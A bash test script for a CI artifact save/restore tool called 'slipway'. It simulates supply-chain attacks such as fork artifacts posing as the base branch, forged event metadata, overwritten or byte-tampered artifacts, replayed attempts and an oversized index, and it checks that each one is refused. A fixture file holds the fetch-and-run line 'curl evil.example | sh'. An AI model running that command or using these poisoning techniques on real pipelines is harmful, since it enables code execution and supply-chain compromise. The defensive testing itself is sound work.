# shellcheck shell=bash
# Attacks. Sourced by run, which has set up a base branch and a pull request of a fork.

step 'attacks, each refused with exit code 4'
victim=$(new_run '{"repository":"acme/app"}')
new_job "$victim" victim
mkdir -p "$work/evil"
echo 'curl evil.example | sh' >"$work/evil/setup.sh"
into=(--folder "$work/restored")

# The name is right, the branch is called main, it is the newest - but it is the fork's.
new_job "$pull" fork
as fork quietly "$slipway" save --folder "$work/evil" --key release
refused 'an artifact of a fork, named like the base' 'fork' victim "$slipway" restore release "${into[@]}"

# The same, and the stash says that a push to acme/app's main saved it.
new_job "$pull" liar
sed -i -E 's#mallory/app#acme/app#g' "$work/jobs/liar/event.json"
sed -i -E "s#(GITHUB_EVENT_NAME)=.*#\1=push#; s#(GITHUB_REF)=.*#\1=refs/heads/main#; s#(GITHUB_REF_NAME)=.*#\1=main#; /GITHUB_HEAD_REF|GITHUB_BASE_REF/d" "$work/jobs/liar/environment"
as liar quietly "$slipway" save --folder "$work/evil" --key release-notes
refused 'a scope that lies' 'fork' victim "$slipway" restore release-notes "${into[@]}"

# A comment made a program dispatch a build of anybody's commit, under main's name.
dispatched=$(new_run '{"repository":"acme/app","event":"repository_dispatch"}')
new_job "$dispatched" chatops
as chatops quietly "$slipway" save --folder "$work/evil" --key chatops
refused 'what a dispatch built' 'event' victim "$slipway" restore chatops "${into[@]}"

# Dependabot's branch is in the repository itself. A run of pull_request_target has secrets, Dependabot's own run has none.
bump=$(tell POST pulls '{"repository":"acme/app","headBranch":"dependabot/npm/x"}' | jq .number)
new_job "$(new_run "{\"repository\":\"acme/app\",\"event\":\"pull_request\",\"pull\":$bump}")" dependabot
as dependabot quietly "$slipway" save --folder "$work/evil" --key deps
new_job "$(new_run "{\"repository\":\"acme/app\",\"event\":\"pull_request_target\",\"pull\":$bump}")" labels
refused "what Dependabot's pull request built" 'event' labels "$slipway" restore deps "${into[@]}"

# Another job of the run replaces what the build job saved; the test job knows the digest.
new_job "$victim" honest
mkdir -p "$work/tools"
seq 100000 >"$work/tools/list"
as honest quietly "$slipway" save --folder "$work/tools" --key tools
digest=$(output honest digest)
new_job "$victim" thief
as thief quietly "$slipway" save --folder "$work/evil" --key tools --overwrite --no-base
refused 'an artifact swapped under its name' 'root digest' victim "$slipway" restore tools --digest "$digest" "${into[@]}"

# An artifact's bytes are not those that were uploaded.
as honest quietly "$slipway" save --folder "$work/tools" --key binaries
number=$(artifact binaries)
tell GET "artifacts/$number/content" >"$work/pack"
head -c 40000 /dev/urandom | dd of="$work/pack" bs=1 seek=64 conv=notrunc status=none
tell PUT "artifacts/$number/content" "@$work/pack" >/dev/null
refused 'other bytes behind an artifact' 'digest|damaged' victim "$slipway" restore binaries "${into[@]}"

# The second attempt saved a fixed image. That disappears, and the first attempt's is offered.
attempts=$(new_run '{"repository":"acme/app"}')
new_job "$attempts" attempt-1
as attempt-1 quietly "$slipway" save --folder "$work/evil" --key fixed
tell POST "runs/$attempts/rerun" '{"onlyFailedJobs":true}' >/dev/null
new_job "$attempts" attempt-2
as attempt-2 quietly "$slipway" save --folder "$work/tools" --key fixed --no-base
digest=$(output attempt-2 digest)
tell PATCH "artifacts/$(artifact fixed)" '{"deleted":true}' >/dev/null
new_job "$attempts" attempt-2-tests
refused 'the replay of an older attempt' 'root digest' attempt-2-tests "$slipway" restore fixed --digest "$digest" "${into[@]}"

# ci-3.12 of the second push takes most chunks from the first push's pack, which now has other bytes, and then is another pack.
base=$(tell GET artifacts | jq "[.[] | select(.run == $push and (.name | contains(\"ci-3.12\")))] | first.id")
tell GET "artifacts/$base/content" >"$work/pack"
head -c 4000000 /dev/urandom | dd of="$work/pack" bs=1M seek=1 conv=notrunc status=none
tell PUT "artifacts/$base/content" "@$work/pack" >/dev/null
refused 'a poisoned base pack' 'digest|damaged' victim "$slipway" restore ci-3.12 --oci-layout "$work/restored-image"
tell GET "artifacts/$(artifact release)/content" >"$work/pack"
tell PUT "artifacts/$base/content" "@$work/pack" >/dev/null
refused 'another pack in the place of a base' 'replaced' victim "$slipway" restore ci-3.12 --oci-layout "$work/restored-image"

# A pack whose footer, with the right digest, asks its reader for 2 GiB of memory.
as honest quietly "$slipway" save --folder "$work/tools" --key index
number=$(artifact index)
tell GET "artifacts/$number/content" >"$work/pack"
oversize "$work/pack"
tell PUT "artifacts/$number/content" "@$work/pack" >/dev/null
tell PATCH "artifacts/$number" "{\"digest\":\"sha256:$(sha256sum <"$work/pack" | cut -c 1-64)\"}" >/dev/null
refused 'an index that is too large' 'outside the file|too large' victim "$slipway" restore index "${into[@]}"
[ ! -e "$work/restored/setup.sh" ] || { echo "an attacker's file was restored" >&2; exit 1; }
